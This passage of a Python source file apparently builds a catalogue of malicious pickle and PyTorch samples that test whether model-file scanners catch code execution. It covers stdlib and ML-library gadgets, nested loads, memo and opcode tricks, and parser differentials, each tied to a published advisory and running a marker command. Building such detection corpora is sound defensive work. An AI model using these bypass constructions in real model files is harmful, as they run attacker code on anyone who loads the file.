            call(sg("ctypes", "CDLL.__getattr__"), call(sg("ctypes", "CDLL"), NONE), u("system")),
            bb(sh(m).encode()),
        ),
        protocol=4,
    ),
    "benign_ordereddict_proto4",
    "GHSA-4675-36f9-wf6r (ctypes)",
    note="POSIX: CDLL(None) is the C library of the running process",
)
_m(
    "marshal_function_type",
    "code-object",
    "pickle",
    lambda m: pk(
        call(
            call(
                sg("types", "FunctionType"),
                call(sg("marshal", "loads"), bb(code_bytes(m))),
                EMPTY_DICT,
            )
        ),
        protocol=4,
    ),
    "benign_ordereddict_proto4",
    "picklescan PR #74 (marshal), cloudpickle-style code objects",
    note="marshal bytecode is interpreter-specific: build() emits the running Python's",
)
_m(
    "cloudpickle_function_by_value",
    "code-object",
    "pickle",
    lambda m: __import__("cloudpickle").dumps(_Reduce(_cloudpickle_payload(m))),
    "benign_ordereddict_proto5",
    "picklescan test cloudpickle_codeinjection; modelscan #338 (code objects)",
    note="needs cloudpickle in the victim's environment; bytecode of the running Python",
)
_m(
    "pydoc_locate_call",
    "import-resolution",
    "pickle",
    lambda m: pk(call(call(sg("pydoc", "locate"), u("os.system")), u(sh(m))), protocol=4),
    "benign_ordereddict_proto4",
    "GHSA-84r2-jw7c-4r5q (pydoc.locate)",
)
_m(
    "pydoc_pipepager",
    "stdlib-gadget",
    "pickle",
    lambda m: pk(call(sg("pydoc", "pipepager"), u(""), u(sh(m))), protocol=4),
    "benign_ordereddict_proto4",
    "picklescan malicious18 (pydoc.pipepager)",
)
_m(
    "pkgutil_resolve_name",
    "import-resolution",
    "pickle",
    lambda m: pk(call(call(sg("pkgutil", "resolve_name"), u("os:system")), u(sh(m))), protocol=4),
    "benign_ordereddict_proto4",
    "GHSA-vvpj-8cmc-gx39 (universal bypass via pkgutil.resolve_name)",
)
_m(
    "operator_attrgetter",
    "computed-callable",
    "pickle",
    lambda m: pk(
        call(
            call(
                call(sg("operator", "attrgetter"), u("system")),
                call(sg("importlib", "import_module"), u("os")),
            ),
            u(sh(m)),
        ),
        protocol=4,
    ),
    "benign_ordereddict_proto4",
    "picklescan malicious12, GHSA-m273-6v24-x4m4 (operator.attrgetter)",
)
_m(
    "operator_methodcaller_c_alias",
    "computed-callable",
    "pickle",
    lambda m: pk(
        call(
            call(sg("_operator", "methodcaller"), u("system"), u(sh(m))),
            call(sg("pydoc", "locate"), u("posix")),
        ),
        protocol=4,
    ),
    "benign_ordereddict_proto4",
    "GHSA-955r-x9j8-7rhh (_operator C alias), GHSA-84r2-jw7c-4r5q",
)
_m(
    "functools_partial_wrapper",
    "computed-callable",
    "pickle",
    lambda m: pk(
        call(call(sg("functools", "partial"), sg("posix", "system"), u(sh(m)))), protocol=4
    ),
    "benign_functools_partial",
    "picklescan test Malicious19 / fickling PR #210 (functools.partial wrapper)",
)
_m(
    "functools_reduce_getattr",
    "dotted-name",
    "pickle",
    lambda m: pk(
        call(
            call(
                sg("functools", "reduce"),
                sg("builtins", "getattr"),
                lst(u("os"), u("system")),
                sg("torch", "serialization"),
            ),
            u(sh(m)),
        ),
        protocol=4,
    ),
    "benign_functools_partial",
    "reduce(getattr, ...) walks torch.serialization.os.system (attribute chains, picklescan #66)",
)
_m(
    "builtins_map_list",
    "computed-callable",
    "pickle",
    lambda m: pk(
        call(
            sg("builtins", "list"),
            call(sg("builtins", "map"), sg("builtins", "exec"), lst(u(code(m)))),
        ),
        protocol=4,
    ),
    "benign_ordereddict_proto4",
    "lazy map() drained by list(): the dangerous callable is never REDUCEd directly",
)
_m(
    "builtins_filter_list",
    "computed-callable",
    "pickle",
    lambda m: pk(
        call(
            sg("builtins", "list"),
            call(sg("builtins", "filter"), sg("builtins", "eval"), lst(u(code(m)))),
        ),
        protocol=4,
    ),
    "benign_ordereddict_proto4",
    "lazy filter() drained by list()",
)
_m(
    "imaplib_imap4_stream",
    "stdlib-gadget",
    "pickle",
    lambda m: pk(call(sg("imaplib", "IMAP4_stream"), u(sh(m))), protocol=4),
    "benign_ordereddict_proto4",
    "CVE-2026-56315 / GHSA-g38g-8gr9-h9xp (imaplib.IMAP4_stream)",
    note="the command runs, then the IMAP greeting is missing and it raises",
    expect_error=True,
)
_m(
    "uuid_get_command_stdout",
    "stdlib-gadget",
    "pickle",
    lambda m: pk(call(sg("uuid", "_get_command_stdout"), u("touch"), u(str(m))), protocol=4),
    "benign_ordereddict_proto4",
    "CVE-2026-56315 / GHSA-g38g-8gr9-h9xp (uuid._get_command_stdout)",
)
_m(
    "osx_support_read_output",
    "stdlib-gadget",
    "pickle",
    lambda m: pk(call(sg("_osx_support", "_read_output"), u(sh(m))), protocol=4),
    "benign_ordereddict_proto4",
    "CVE-2026-56315 / GHSA-g38g-8gr9-h9xp (_osx_support._read_output, importable on Linux)",
)
_m(
    "mailcap_findmatch",
    "stdlib-gadget",
    "pickle",
    lambda m: pk(
        call(
            sg("mailcap", "findmatch"),
            dct((u("text/plain"), lst(dct((u("view"), u("true")), (u("test"), u(sh(m))))))),
            u("text/plain"),
        ),
        protocol=4,
    ),
    "benign_ordereddict_proto4",
    "modelscan PR #346 (mailcap.findmatch runs the 'test' command)",
    note="mailcap exists up to Python 3.12",
)
_m(
    "multiprocessing_spawnv_passfds",
    "stdlib-gadget",
    "pickle",
    lambda m: pk(
        call(
            sg("multiprocessing.util", "spawnv_passfds"),
            bb((shutil.which("touch") or "/usr/bin/touch").encode()),
            lst(bb(b"touch"), bb(str(m).encode())),
            EMPTY_TUPLE,
        ),
        protocol=4,
    ),
    "benign_ordereddict_proto4",
    "modelscan issue #338 (multiprocessing.util.spawnv_passfds)",
    note="POSIX only; the touch path is resolved when the sample is built",
)
_m(
    "pip_main_log",
    "stdlib-gadget",
    "pickle",
    lambda m: pk(
        call(sg("pip", "main"), lst(u("--log"), u(str(m)), u("cache"), u("dir"))), protocol=4
    ),
    "benign_ordereddict_proto4",
    "CVE-2025-1716 (Sonatype: pip.main not denylisted); --log writes the marker offline",
    note="needs pip importable in the victim's environment; pip.main may raise SystemExit",
)
_m(
    "ensurepip_run_pip",
    "stdlib-gadget",
    "pickle",
    lambda m: pk(
        call(sg("ensurepip", "_run_pip"), lst(u("--log"), u(str(m)), u("cache"), u("dir"))),
        protocol=4,
    ),
    "benign_ordereddict_proto4",
    "GHSA-xp4f-hrf8-rxw7 (ensurepip._run_pip runs pip in a subprocess)",
)
_m(
    "idlelib_calltip_get_entity",
    "stdlib-gadget",
    "pickle",
    lambda m: pk(call(sg("idlelib.calltip", "get_entity"), u(code(m))), protocol=4),
    "benign_ordereddict_proto4",
    "GHSA-9xph-j2h6-g47v (idlelib.calltip.get_entity evals its argument)",
)
_m(
    "lib2to3_make_label",
    "stdlib-gadget",
    "pickle",
    lambda m: pk(
        call(
            sg("lib2to3.pgen2.pgen", "ParserGenerator.make_label"),
            NONE,
            call(sg("types", "SimpleNamespace"))
            + dct((u("labels"), EMPTY_LIST), (u("keywords"), EMPTY_DICT), (u("tokens"), EMPTY_DICT))
            + BUILD,
            u('"" + str(' + code(m) + ")"),
        ),
        protocol=4,
    ),
    "benign_ordereddict_proto4",
    "GHSA-p9w7-82w4-7q8m (lib2to3 ParserGenerator.make_label evals quoted labels)",
    note="lib2to3 exists up to Python 3.12",
)


def _cloudpickle_payload(marker: Path) -> Callable[[], None]:
    path = str(marker)

    def payload() -> None:
        open(path, "a").close()

    return payload


# ===== ML-library gadgets ==================================================================

_m(
    "numpy_testing_runstring",
    "ml-library-gadget",
    "pickle",
    lambda m: pk(
        call(sg("numpy.testing._private.utils", "runstring"), u(code(m)), EMPTY_DICT), protocol=4
    ),
    "benign_numpy_array_pickle",
    "picklescan Malicious22 (numpy.testing._private.utils.runstring is exec)",
)
_m(
    "numpy_f2py_getlincoef",
    "ml-library-gadget",
    "pickle",
    lambda m: pk(
        call(sg("numpy.f2py.crackfortran", "getlincoef"), u(code(m)), EMPTY_LIST), protocol=4
    ),
    "benign_numpy_array_pickle",
    "GHSA-r8g5-cgf2-4m4m (numpy.f2py.crackfortran.getlincoef evals)",
)
_m(
    "numpy_f2py_eval_length",
    "ml-library-gadget",
    "pickle",
    lambda m: pk(
        call(sg("numpy.f2py.crackfortran", "_eval_length"), u(code(m)), EMPTY_DICT), protocol=4
    ),
    "benign_numpy_array_pickle",
    "fickling PR #210 (numpy.f2py.crackfortran._eval_length)",
)
_m(
    "numpy_savetxt_file_write",
    "ml-library-gadget",
    "pickle",
    lambda m: pk(call(sg("numpy", "savetxt"), u(str(m)), lst(k(1), k(2))), protocol=4),
    "benign_numpy_array_pickle",
    "allowlists that trust all of numpy.* (modelscan #330 class): numpy.savetxt writes files",
)
_m(
    "pandas_to_csv_file_write",
    "ml-library-gadget",
    "pickle",
    lambda m: pk(
        call(sg("pandas", "DataFrame.to_csv"), call(sg("pandas", "DataFrame")), u(str(m))),
        protocol=4,
    ),
    "benign_numpy_array_pickle",
    "modelscan issue #338 (pandas I/O functions as primitives); DataFrame.to_csv writes files",
)
_m(
    "torch_jit_exec_wrapper",
    "ml-library-gadget",
    "pickle",
    lambda m: pk(
        call(
            sg("torch.jit.unsupported_tensor_ops", "execWrapper"),
            u(code(m)),
            EMPTY_DICT,
            EMPTY_DICT,
        ),
        protocol=4,
    ),
    "benign_torch_tensor_pickle",
    "GHSA-vr7h-p6mm-wpmh (torch.jit.unsupported_tensor_ops.execWrapper)",
)
_m(
    "torch_collect_env_run",
    "ml-library-gadget",
    "pickle",
    lambda m: pk(call(sg("torch.utils.collect_env", "run"), u(sh(m))), protocol=4),
    "benign_torch_tensor_pickle",
    "GHSA-f745-w6jp-hpxx, modelscan #338 (torch.utils.collect_env.run)",
)
_m(
    "torch_collect_env_run_and_read_all",
    "ml-library-gadget",
    "pickle",
    lambda m: pk(
        call(
            sg("torch.utils.collect_env", "run_and_read_all"),
            sg("torch.utils.collect_env", "run"),
            u(sh(m)),
        ),
        protocol=4,
    ),
    "benign_torch_tensor_pickle",
    "GHSA-jhph-76pp-mggw (torch.utils.collect_env.run_and_read_all)",
)
_m(
    "torch_fx_evaluate_guards_expression",
    "ml-library-gadget",
    "pickle",
    lambda m: pk(
        call(
            sg("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
            NONE,
            u(code(m)),
            EMPTY_LIST,
        ),
        protocol=4,
    ),
    "benign_torch_tensor_pickle",
    "GHSA-f4x7-rfwp-v3xw (ShapeEnv.evaluate_guards_expression evals)",
)
_m(
    "torch_config_module_load_config",
    "nested-deserialisation",
    "pickle",
    lambda m: pk(
        call(
            sg("torch.utils._config_module", "ConfigModule.load_config"),
            NONE,
            bb(pickle.dumps(_exec_payload(m), 4)),
        ),
        protocol=4,
    ),
    "benign_torch_tensor_pickle",
    "GHSA-vv6j-3g6g-2pvj (ConfigModule.load_config unpickles its argument)",
    note="the nested pickle runs, then the fake self raises",
    expect_error=True,
)
_m(
    "torch_datapipes_basichandlers",
    "nested-deserialisation",
    "pickle",
    lambda m: pk(
        call(
            sg("torch.utils.data.datapipes.utils.decoder", "basichandlers"),
            u("pickle"),
            bb(pickle.dumps(_exec_payload(m), 4)),
        ),
        protocol=4,
    ),
    "benign_torch_tensor_pickle",
    "GHSA-h3qp-7fh3-f8h4 (datapipes decoder.basichandlers unpickles)",
)
_m(
    "torch_storage_load_from_bytes",
    "nested-deserialisation",
    "pickle",
    lambda m: pk(
        call(g("torch.storage", "_load_from_bytes"), bb(_torch_zip_with(_system_pickle(m, 2)))),
        protocol=2,
    ),
    "benign_torch_tensor_pickle",
    "torch.storage._load_from_bytes = torch.load(weights_only=False): the global every plain "
    "pickle of a tensor uses (picklescan denylists torch.serialization.load, not this)",
)
_m(
    "torch_save_file_write",
    "ml-library-gadget",
    "pickle",
    lambda m: pk(call(sg("torch", "save"), k(0), u(str(m))), protocol=4),
    "benign_torch_tensor_pickle",
    "allowlists trusting torch.* broadly: torch.save writes a file",
)
_m(
    "sklearn_run_python_script",
    "ml-library-gadget",
    "pickle",
    lambda m: pk(
        call(sg("sklearn.utils._testing", "assert_run_python_script_without_output"), u(code(m))),
        protocol=4,
    ),
    "benign_sklearn_pickle",
    "'Art of Hide and Seek' (2025): gadgets in ML libraries' test helpers; runs a Python script",
)
_m(
    "joblib_dump_file_write",
    "ml-library-gadget",
    "pickle",
    lambda m: pk(call(sg("joblib", "dump"), k(0), u(str(m))), protocol=4),
    "benign_sklearn_pickle",
    "allowlists trusting joblib.*: joblib.dump writes a file",
)

# ===== nested deserialisation ==============================================================

_m(
    "nested_pickle_loads",
    "nested-deserialisation",
    "pickle",
    lambda m: pk(call(sg("_pickle", "loads"), bb(_system_pickle(m, 2))), protocol=4),
    "benign_ordereddict_proto4",
    "picklescan PR #25 / modelscan #267 (pickle.loads of an inner pickle; _pickle alias)",
)
_m(
    "nested_torch_load_explicit_pickle_module",
    "nested-deserialisation",
    "pickle",
    lambda m: pk(
        call(
            sg("torch", "load"),
            call(sg("_io", "BytesIO"), bb(_torch_zip_with(_system_pickle(m, 2)))),
            NONE,
            sg("torch.serialization", "pickle"),
        ),
        protocol=4,
    ),
    "benign_torch_tensor_pickle",
    "picklescan Malicious19 (nested torch.load); passing pickle_module turns weights_only off",
    note="torch.load(f, None, pickle): an explicit pickle_module defaults weights_only to False",
)
_m(
    "nested_numpy_load",
    "nested-deserialisation",
    "pickle",
    lambda m: pk(
        call(
            sg("numpy", "load"),
            call(sg("_io", "BytesIO"), bb(_np_save(_object_array(_os_system(m))))),
            NONE,
            NEWTRUE,
        ),
        protocol=4,
    ),
    "benign_numpy_array_pickle",
    "picklescan TODO list: numpy.load(allow_pickle=True) loads another pickle",
)
_m(
    "nested_joblib_load",
    "nested-deserialisation",
    "pickle",
    lambda m: pk(
        call(
            sg("joblib", "load"),
            call(sg("_io", "BytesIO"), bb(_joblib_dump(_os_system(m), ("zlib", 3)))),
        ),
        protocol=4,
    ),
    "benign_sklearn_pickle",
    "picklescan TODO list: joblib.load of an inner (compressed) joblib stream",
)
_m(
    "nested_pandas_read_pickle",
    "nested-deserialisation",
    "pickle",
    lambda m: pk(
        call(
            sg("pandas", "read_pickle"),
            call(sg("_io", "BytesIO"), bb(pickle.dumps(_os_system(m), 4))),
        ),
        protocol=4,
    ),
    "benign_numpy_array_pickle",
    "picklescan TODO list / modelscan #338: pandas.read_pickle of an inner pickle",
)

# ===== dotted names, module attributes, introspection ======================================

_m(
    "dotted_stack_global_torch_os_system",
    "dotted-name",
    "pickle",
    lambda m: pk(call(sg("torch", "serialization.os.system"), u(sh(m))), protocol=4),
    "benign_torch_tensor_pickle",
    "modelscan #89: an allowlisted top module reaching os through module attributes",
)
_m(
    "dotted_global_after_late_proto4",
    "dotted-name",
    "pickle",
    lambda m: (
        proto(2)
        + NONE
        + POP
        + proto(4)
        + call(g("torch", "serialization.os.system"), u(sh(m)))
        + STOP
    ),
    "benign_ordereddict_proto2",
    "dotted names resolve only when the *last* PROTO opcode said >= 4; a mid-stream PROTO 4 "
    "turns a protocol-2 file's GLOBAL into an attribute walk",
)
_m(
    "dotted_builtins_print_self_exec",
    "dotted-name",
    "pickle",
    lambda m: pk(call(sg("builtins", "print.__self__.exec"), u(code(m))), protocol=4),
    "benign_ordereddict_proto4",
    "modelscan #338 §10 (introspection chains that stay inside 'builtins')",
)
_m(
    "dotted_function_builtins_dict",
    "dotted-name",
    "pickle",
    lambda m: pk(
        call(
            call(
                sg("builtins", "dict.get"),
                sg("torch._utils", "_rebuild_tensor_v2.__builtins__"),
                u("exec"),
            ),
            u(code(m)),
        ),
        protocol=4,
    ),
    "benign_torch_tensor_pickle",
    "modelscan #89 (module __builtins__ + dict.get); here through an allowlisted function's "
    "__builtins__",
)
_m(
    "module_dunder_builtins_dict",
    "dotted-name",
    "pickle",
    lambda m: pk(
        call(call(sg("builtins", "dict.get"), sg("numpy", "__builtins__"), u("eval")), u(code(m))),
        protocol=4,
    ),
    "benign_numpy_array_pickle",
    "modelscan #89 first PoC (numpy.__builtins__ then dict.get)",
)
_m(
    "sys_modules_alias",
    "import-resolution",
    "pickle",
    lambda m: pk(
        call(
            sg("_operator", "setitem"),
            sg("torch", "serialization.sys.modules"),
            u("torchvision_compat_ops"),
            sg("torch", "serialization.os"),
        ),
        POP,
        call(sg("torchvision_compat_ops", "system"), u(sh(m))),
        protocol=4,
    ),
    "benign_torch_tensor_pickle",
    "picklescan test sys_module_override_sploit: register os in sys.modules under a new name",
)
_m(
    "build_attribute_injection",
    "attribute-injection",
    "pickle",
    lambda m: pk(
        sg("torch._utils", "_rebuild_tensor_v2"),
        NONE,
        dct((u("_m"), u("posix")), (u("_f"), u("system"))),
        TUPLE2,
        BUILD,
        POP,
        call(
            sg("torch._utils", "_rebuild_tensor_v2._m")
            + sg("torch._utils", "_rebuild_tensor_v2._f")
            + STACK_GLOBAL,
            u(sh(m)),
        ),
        protocol=4,
    ),
    "benign_torch_tensor_pickle",
    "modelscan #85 (BUILD slot-state setattr on an allowlisted object, read back by name)",
)

# ===== protocol-2 (__builtin__) names and fix_imports remapping ============================

_m(
    "proto2_builtin_eval",
    "protocol2-names",
    "pickle",
    lambda m: pk(call(g("__builtin__", "eval"), u(code(m))), protocol=2),
    "benign_ordereddict_proto2",
    "picklescan: protocol <= 2 spells builtins as __builtin__",
)
_m(
    "proto0_commands_getoutput",
    "protocol2-names",
    "pickle",
    lambda m: pk(call(g("commands", "getoutput"), s0(sh(m)))),
    "benign_ordereddict_proto0",
    "fix_imports maps Python-2 'commands' to subprocess (picklescan lists commands)",
)
_m(
    "proto0_cpickle_loads",
    "protocol2-names",
    "pickle",
    lambda m: pk(
        call(
            g("cPickle", "loads"),
            call(g("_codecs", "encode"), v0(_system_pickle(m, 0).decode("latin-1")), v0("latin1")),
        )
    ),
    "benign_ordereddict_proto0",
    "fix_imports maps cPickle to pickle; _codecs.encode is how protocol 0 spells bytes",
)
_m(
    "proto0_urllib_urlretrieve",
    "protocol2-names",
    "pickle",
    lambda m: pk(call(g("urllib", "urlretrieve"), s0("file://" + os.devnull), s0(str(m)))),
    "benign_ordereddict_proto0",
    "fix_imports maps urllib.urlretrieve to urllib.request.urlretrieve",
)

# ===== memo tricks ==========================================================================

_m(
    "memo_binput_binget_stack_global",
    "memo",
    "pickle",
    lambda m: pk(
        u("posix"),
        binput(7),
        POP,
        u("system"),
        binput(9),
        POP,
        sg("collections", "OrderedDict"),
        POP,
        binget(7),
        binget(9),
        STACK_GLOBAL,
        u(sh(m)),
        TUPLE1,
        REDUCE,
        protocol=4,
    ),
    "benign_memo_shared_refs_proto4",
    "picklescan issue #22 (imaginaryctf 'Safe Pickle'): operands fetched from the memo",
)
_m(
    "memo_binput_memoize_mix",
    "memo",
    "pickle",
    lambda m: pk(
        u("posix"),
        binput(0),
        POP,
        u("system"),
        binput(1),
        POP,
        u("torch._utils"),
        MEMOIZE,
        POP,
        u("_rebuild_tensor_v2"),
        MEMOIZE,
        POP,
        binget(0),
        binget(1),
        STACK_GLOBAL,
        u(sh(m)),
        TUPLE1,
        REDUCE,
        protocol=4,
    ),
    "benign_memo_shared_refs_proto4",
    "picklescan issue #14 (Doyensec): a scanner that models MEMOIZE only sees the decoys",
)
_m(
    "memo_memoize_len_semantics",
    "memo",
    "pickle",
    lambda m: pk(
        u("torch._utils"),
        binput(1),
        POP,
        u("posix"),
        MEMOIZE,
        POP,  # index = len(memo) = 1: overwrites the decoy
        u("_rebuild_tensor_v2"),
        binput(3),
        POP,
        u("system"),
        MEMOIZE,
        POP,  # index = len(memo) = 2
        binget(1),
        binget(2),
        STACK_GLOBAL,
        u(sh(m)),
        TUPLE1,
        REDUCE,
        protocol=4,
    ),
    "benign_memo_shared_refs_proto4",
    "C and Python unpicklers put MEMOIZE at len(memo), not max(index)+1 nor a counter",
)
_m(
    "memo_long_binput",
    "memo",
    "pickle",
    lambda m: pk(
        u("posix"),
        long_binput(70000),
        POP,
        u("system"),
        long_binput(4_000_000),
        POP,
        long_binget(70000),
        long_binget(4_000_000),
        STACK_GLOBAL,
        u(sh(m)),
        TUPLE1,
        REDUCE,
        protocol=4,
    ),
    "benign_memo_shared_refs_proto4",
    "LONG_BINPUT/LONG_BINGET with sparse 32-bit indices",
)
_m(
    "memo_text_put_get",
    "memo",
    "pickle",
    lambda m: pk(
        u("posix"),
        b"p00\n",
        POP,
        u("system"),
        b"p+1\n",
        POP,
        b"g0\n",
        b"g1\n",
        STACK_GLOBAL,
        u(sh(m)),
        TUPLE1,
        REDUCE,
        protocol=4,
    ),
    "benign_memo_shared_refs_proto2",
    "protocol-0 PUT/GET inside a protocol-4 stream; '00' and '+1' are valid memo keys",
)
_m(
    "memo_missing_key_after_payload",
    "broken-stream",
    "pickle",
    lambda m: pk(
        call(g("posix", "system"), u(sh(m))), POP, binget(3), binget(0), STACK_GLOBAL, protocol=4
    ),
    "benign_broken_stream",
    "picklescan test keyerror-exploit: the scanner's memo lookup fails after the payload",
    expect_error=True,
)

# ===== stack-shape and literal differentials ================================================

_m(
    "stack_global_pop_decoy",
    "parser-differential",
    "pickle",
    lambda m: pk(
        u("posix"),
        u("system"),
        u("torch._utils"),
        u("_rebuild_tensor_v2"),
        POP,
        POP,
        STACK_GLOBAL,
        u(sh(m)),
        TUPLE1,
        REDUCE,
        protocol=4,
    ),
    "benign_ordereddict_proto4",
    "scanners that take 'the two strings before STACK_GLOBAL' (modelscan #85 analysis)",
)
_m(
    "stack_global_pop_mark_decoy",
    "parser-differential",
    "pickle",
    lambda m: pk(
        u("posix"),
        u("system"),
        MARK,
        u("torch._utils"),
        u("_rebuild_tensor_v2"),
        POP_MARK,
        STACK_GLOBAL,
        u(sh(m)),
        TUPLE1,
        REDUCE,
        protocol=4,
    ),
    "benign_ordereddict_proto4",
    "POP_MARK discards decoy operands",
)
_m(
    "torch_zip_utf8_string_before_payload",
    "parser-differential",
    "torch",
    lambda m: _torch_zip_with(
        proto(2) + "S'\u00e9t\u00e9'\n".encode() + POP + call(g("posix", "system"), u(sh(m))) + STOP
    ),
    "benign_torch_zip",
    "torch.load unpickles with encoding='utf-8'; pickletools decodes STRING as ASCII and "
    "raises before the payload",
    suffix=".pt",
)
_m(
    "stack_global_string_opcodes",
    "parser-differential",
    "pickle",
    lambda m: pk(
        b'S"po\\x73ix"\n', b"U\x06system", STACK_GLOBAL, s0(sh(m)), TUPLE1, REDUCE, protocol=4
    ),
    "benign_ordereddict_proto4",
    "GHSA-9gvj-pp9x-gcfr (STACK_GLOBAL fed by STRING/SHORT_BINSTRING, escaped)",
)
_m(
    "stack_global_unicode_escapes",
    "parser-differential",
    "pickle",
    lambda m: pk(
        b"V\\u0070osix\n", b"Vsy\\u0073tem\n", STACK_GLOBAL, u(sh(m)), TUPLE1, REDUCE, protocol=4
    ),
    "benign_ordereddict_proto4",
    "raw-unicode-escape in UNICODE operands hides the name from byte-pattern scanners",
)
_m(
    "computed_name_rot13",
    "computed-name",
    "pickle",
    lambda m: pk(
        call(sg("_codecs", "encode"), u("cbfvk"), u("rot13")),
        call(sg("_codecs", "encode"), u("flfgrz"), u("rot13")),
        STACK_GLOBAL,
        u(sh(m)),
        TUPLE1,
        REDUCE,
        protocol=4,
    ),
    "benign_torch_tensor_pickle",
    "STACK_GLOBAL operands produced by calls (modelscan #331); _codecs.encode is on torch's "
    "weights-only allowlist",
)
_m(
    "computed_name_str_join",
    "computed-name",
    "pickle",
    lambda m: pk(
        call(sg("builtins", "str.join"), u(""), lst(*(u(c) for c in "posix"))),
        call(sg("builtins", "str.join"), u(""), lst(*(u(c) for c in "system"))),
        STACK_GLOBAL,
        u(sh(m)),
        TUPLE1,
        REDUCE,
        protocol=4,
    ),
    "benign_ordereddict_proto4",
    "modelscan #331 (names assembled with str.join)",
)
_m(
    "int_hex_literal_before_payload",
    "parser-differential",
    "pickle",
    lambda m: b"I0x1\n" + POP + _system_pickle(m, 0),
    "benign_int_quirks_proto0",
    "C unpickler parses INT with base 0 ('0x1'); pickletools.genops raises, so genops-based "
    "scanners stop before the payload",
)
_m(
    "long_hex_literal_before_payload",
    "parser-differential",
    "pickle",
    lambda m: b"L0x1L\n" + POP + _system_pickle(m, 0),
    "benign_int_quirks_proto0",
    "LONG is parsed with base 0 too; pickletools uses base 10",
)
_m(
    "int_octal_literal_c_only",
    "parser-differential",
    "pickle",
    lambda m: b"I010\n" + POP + _system_pickle(m, 0),
    "benign_int_quirks_proto0",
    "strtol base 0 reads '010' as 8; pure-Python pickle raises: emulators differ from the C "
    "unpickler",
)

# ===== FRAME tricks =========================================================================

_m(
    "frame_opcode_crosses_boundary",
    "parser-differential",
    "pickle",
    lambda m: (
        proto(4)
        + frame(sg("posix", "system")[:3], declared=3)
        + sg("posix", "system")[3:]
        + u(sh(m))
        + TUPLE1
        + REDUCE
        + STOP
    ),
    "benign_frame_quirks_proto4",
    "C unpickler ignores frame boundaries; pickle._Unpickler raises 'pickle exhausted before "
    "end of frame' -- emulating scanners bail out",
)
_m(
    "frame_zero_length",
    "parser-differential",
    "pickle",
    lambda m: proto(4) + frame(b"", 0) + call(sg("posix", "system"), u(sh(m))) + STOP,
    "benign_frame_quirks_proto4",
    "a scanner that trusts FRAME lengths sees an empty frame; the payload follows it",
)

# ===== INST / OBJ / NEWOBJ / NEWOBJ_EX ======================================================

_m(
    "inst_opcode_system",
    "instantiation-opcode",
    "pickle",
    lambda m: pk(MARK, s0(sh(m)), INST, b"posix\nsystem\n"),
    "benign_ordereddict_proto0",
    "picklescan malicious10 (INST calls non-class callables too)",
)
_m(
    "obj_opcode_system",
    "instantiation-opcode",
    "pickle",
    lambda m: pk(MARK, g("posix", "system"), u(sh(m)), OBJ, protocol=2),
    "benign_ordereddict_proto2",
    "OBJ calls its first stack item (scanners that only follow REDUCE miss it)",
)
_m(
    "newobj_function_type",
    "instantiation-opcode",
    "pickle",
    lambda m: pk(
        g("types", "FunctionType"),
        call(g("marshal", "loads"), bb(code_bytes(m))),
        EMPTY_DICT,
        TUPLE2,
        NEWOBJ,
        EMPTY_TUPLE,
        REDUCE,
        protocol=2,
    ),
    "benign_simplenamespace_build",
    "NEWOBJ builds a function from marshalled code, REDUCE calls it",
    note="marshal bytecode is interpreter-specific: build() emits the running Python's",
)
_m(
    "newobj_ex_function_type_kwargs",
    "instantiation-opcode",
    "pickle",
    lambda m: pk(
        sg("types", "FunctionType"),
        call(sg("marshal", "loads"), bb(code_bytes(m))),
        EMPTY_DICT,
        TUPLE2,
        dct((u("name"), u("forward"))),
        NEWOBJ_EX,
        EMPTY_TUPLE,
        REDUCE,
        protocol=4,
    ),
    "benign_simplenamespace_build",
    "NEWOBJ_EX (protocol 4) with keyword arguments",
    note="marshal bytecode is interpreter-specific: build() emits the running Python's",
)

# ===== BUILD / __setstate__ =================================================================

_m(
    "build_setstate_from_instance_dict",
    "build-setstate",
    "pickle",
    lambda m: pk(
        call(sg("types", "SimpleNamespace")),
        dct((u("__setstate__"), sg("torch", "serialization.os.system"))),
        BUILD,
        u(sh(m)),
        BUILD,
        protocol=4,
    ),
    "benign_simplenamespace_build",
    "BUILD #1 puts __setstate__ in the instance dict, BUILD #2 calls it: no REDUCE of the "
    "dangerous callable at all",
)
_m(
    "build_partial_setstate",
    "build-setstate",
    "pickle",
    lambda m: pk(
        call(sg("functools", "partial"), sg("builtins", "print")),
        tup(sg("posix", "system"), tup(u(sh(m))), EMPTY_DICT, NONE),
        BUILD,
        EMPTY_TUPLE,
        REDUCE,
        protocol=4,
    ),
    "benign_functools_partial",
    "functools.partial.__setstate__ swaps the wrapped function after construction",
)
_m(
    "build_partial_kwargs_pdb",
    "build-setstate",
    "pickle",
    lambda m: pk(
        sg("pdb", "Pdb.run"),
        MARK,
        call(sg("functools", "partial"), sg("pdb", "Pdb")),
        tup(
            sg("pdb", "Pdb"),
            EMPTY_TUPLE,
            dct(
                (u("stdin"), call(sg("_io", "StringIO"), u("continue\n"))),
                (u("stdout"), call(sg("_io", "StringIO"))),
                (u("readrc"), NEWFALSE),
                (u("nosigint"), NEWTRUE),
            ),
            NONE,
        ),
        BUILD,
        EMPTY_TUPLE,
        REDUCE,
        u(code(m)),
        TUPLE,
        REDUCE,
        protocol=4,
    ),
    "benign_functools_partial",
    "picklescan PR #29 (pdb): a scripted Pdb built through partial.__setstate__ kwargs",
)

# ===== EXT opcodes ==========================================================================

_m(
    "ext1_self_registered",
    "ext-opcode",
    "pickle",
    lambda m: pk(
        call(g("copyreg", "add_extension"), u("posix"), u("system"), k(240)),
        POP,
        b"\x82\xf0",
        u(sh(m)),
        TUPLE1,
        REDUCE,
        protocol=2,
    ),
    "benign_ordereddict_proto2",
    "copyreg.add_extension then EXT1: the callable is never named by a GLOBAL",
)
_m(
    "ext4_copy_reg_alias",
    "ext-opcode",
    "pickle",
    lambda m: pk(
        call(g("copy_reg", "add_extension"), v0("os"), v0("system"), b"I2147483000\n"),
        POP,
        b"\x84" + struct.pack("<i", 2147483000),
        v0(sh(m)),
        TUPLE1,
        REDUCE,
    ),
    "benign_ordereddict_proto0",
    "EXT4 in a header-less stream; Python-2 name copy_reg remapped by fix_imports",
)
_m(
    "ext2_code_preregistered",
    "ext-opcode",
    "pickle_ext_registry",
    lambda m: pk(b"\x83" + struct.pack("<H", 0xC0DE), u(sh(m)), TUPLE1, REDUCE, protocol=2),
    "benign_ordereddict_proto2",
    "EXT2 only: no GLOBAL, no import, no string naming a module",
    note="runs only in a process whose copyreg registry already maps 0xC0DE (the "
    "pickle_ext_registry loader registers ('posix', 'system') first)",
)

# ===== broken streams (nullifAI and friends) ================================================

_m(
    "broken_invalid_opcode_after_reduce",
    "broken-stream",
    "pickle",
    lambda m: proto(2) + call(g("posix", "system"), u(sh(m))) + b"\xff\xfe garbage",
    "benign_broken_stream",
